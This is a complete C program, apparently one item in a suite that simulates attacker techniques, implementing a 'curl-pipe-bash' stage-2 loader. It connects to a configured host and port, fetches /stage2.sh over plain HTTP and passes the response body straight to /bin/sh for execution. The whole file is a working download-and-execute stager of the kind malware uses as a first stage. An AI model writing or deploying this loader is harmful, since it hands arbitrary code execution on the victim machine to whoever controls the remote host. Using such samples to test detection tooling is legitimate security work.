/* curl-pipe-bash: download the stage-2 script over HTTP and run it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "targets.h"

int main(int argc, char **argv)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	static char resp[65536];
	size_t len = 0;
	ssize_t n;
	char *body;
	int fd;

	targets_load(argc, argv);
	sa.sin_port = htons((unsigned short)atoi(target("T_TCP_PORT")));
	inet_pton(AF_INET, target("T_TCP_HOST"), &sa.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		return 1;
	}
	dprintf(fd, "GET /stage2.sh HTTP/1.0\r\n\r\n");
	while (len + 1 < sizeof(resp) &&
	       (n = read(fd, resp + len, sizeof(resp) - 1 - len)) > 0)
		len += (size_t)n;
	resp[len] = '\0';
	close(fd);
	body = strstr(resp, "\r\n\r\n");
	if (!body)
		return 1;
	execl("/bin/sh", "sh", "-c", body + 4, (char *)NULL);
	perror("sh");
	return 1;
}
